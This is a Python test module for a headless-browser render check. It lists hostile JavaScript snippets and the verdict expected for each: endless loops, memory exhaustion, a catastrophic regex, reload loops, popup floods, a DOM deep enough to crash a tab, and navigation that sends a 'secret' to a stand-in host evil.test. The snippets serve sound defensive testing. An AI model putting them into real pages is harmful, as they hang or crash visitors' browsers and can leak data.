"""Hostile pages shown to the robot: the exact verdict for each, nothing on the network, the next page unharmed."""

from __future__ import annotations

import urllib.request
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass

from checks import render
from checks.browser import Browser
from checks.verdict import Outcome, Subject
from tests.browser.runtime_site import Sink
from tests.browser.test_runtime_leaks import LEAVING, STAYING, hostile

# A page that hangs costs its whole budget, so that is short; one that only has much to do gets what a crowded machine takes.
HANGS_S, BUSY_S = 8.0, 60.0


@dataclass(frozen=True, slots=True)
class Attack:
    """A script on an otherwise sound page; what the render check must make of it."""

    script: str
    outcome: Outcome
    # Findings there must be, and no error besides them.
    codes: frozenset[str]


def _attack(script: str, outcome: Outcome, *codes: str) -> Attack:
    return Attack(script, outcome, frozenset(codes))


FAIL, WARN, PASS = Outcome.FAIL, Outcome.WARN, Outcome.PASS
SHORT: Mapping[str, Attack] = {
    "endless loop": _attack("for (;;);", FAIL, "hung"),
    "endless alerts": _attack("for (;;) alert(1)", FAIL, "hung"),
    "goes elsewhere": _attack("location = 'https://evil.test/?secret'", FAIL, "left"),
    "console flood": _attack(
        "for (let i = 0; i < 2e4; i++) console.error('x'.repeat(5000) + i)", WARN, "console_error"
    ),
}
LONG: Mapping[str, Attack] = {
    "memory in buffers": _attack("const a = []; for (;;) a.push(new Uint8Array(5e7).fill(1))", FAIL, "hung"),
    "loop after loading": _attack(
        "addEventListener('load', () => setTimeout(() => { for (;;); }, 30))", FAIL, "hung"
    ),
    "loop of microtasks": _attack("(function f() { Promise.resolve().then(f) })()", FAIL, "hung"),
    "slow pattern": _attack("/(a+)+$/.test('a'.repeat(40) + 'b')", FAIL, "hung"),
    "reload loop": _attack("location.reload()", FAIL, "left"),
    "goes to a blob": _attack(
        "location = URL.createObjectURL(new Blob(['<h1>gone</h1>'], {type: 'text/html'}))", FAIL, "left"
    ),
    "heap": _attack("const a = []; for (;;) a.push(new Array(1e6).fill(Math.random()))", FAIL, "hung"),
    "prompts": _attack("for (let i = 0; i < 500; i++) { confirm(i); prompt(i) }", PASS),
    "errors by the thousand": _attack(
        "for (let i = 0; i < 3e3; i++) setTimeout(() => { throw new Error('e' + i) })", FAIL, "uncaught_error"
    ),
    "a page ninety thousand pixels tall": _attack("document.body.style.height = '90000px'", PASS),
    "popups": _attack("for (let i = 0; i < 50; i++) window.open('https://evil.test/' + i)", PASS),
    "frames in frames": _attack(
        "for (let i = 0; i < 200; i++) document.body.append(Object.assign(document.createElement('iframe'),"
        " {srcdoc: '<p>x'}))",
        WARN,
        "blocked_request",
    ),
    # So deep a tree makes the tab itself crash, in anybody's browser.
    "deep elements": _attack(
        "let e = document.body; for (let i = 0; i < 5000; i++) e = e.appendChild(document.createElement('div'))",
        FAIL,
        "hung",
    ),
}


def page(script: str) -> dict[str, str]:
    """A sound page with a script at its end."""
    return {
        "index.html": '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>x</title></head><body>'
        f"<main><h1>A page</h1><p>With words.</p></main><script>{script}</script></body></html>"
    }


@contextmanager
def browsers() -> Iterator[Callable[[Attack], Browser]]:
    """A robot for attacks that hang and one for those that do not; yields which of them meets an attack."""
    with Browser.launch(budget_s=HANGS_S) as hasty, Browser.launch(budget_s=BUSY_S) as patient:
        yield lambda attack: hasty if "hung" in attack.codes else patient


def judged(browser: Browser, attack: Attack) -> str:
    """Run the render check on an attack, then on a sound page; what is wrong, or nothing."""
    verdict = render.run(Subject("html", page(attack.script), None, None, ()), browser)
    found = {finding.code for finding in verdict.findings}
    errors = {finding.code for finding in verdict.findings if finding.severity == "error"}
    if verdict.outcome is not attack.outcome or not attack.codes <= found or not errors <= attack.codes:
        return f"{verdict.outcome}: {sorted(found)} ({verdict.summary})"
    sound = browser.render(page(""), "html", (1280,))
    if sound.hung or sound.left or sound.errors or not sound.shots[1280].text_length:
        return "the next page suffered"
    return ""


def heard(browser: Browser, ways: Mapping[str, str], sink: Sink) -> list[str]:
    """Show a page that tries every way out at once; what the sink on loopback heard."""
    sink.heard.clear()
    browser.render({"index.html": hostile(sink, *ways.values())}, "html", (1280,))
    return list(sink.heard)


def sink_hears(sink: Sink) -> bool:
    """The control: the sink is there and would hear."""
    urllib.request.urlopen(f"{sink.origin}/control", timeout=5).close()
    return sink.heard == ["GET /control"]


__all__ = ["LEAVING", "LONG", "SHORT", "STAYING", "heard", "judged", "sink_hears"]
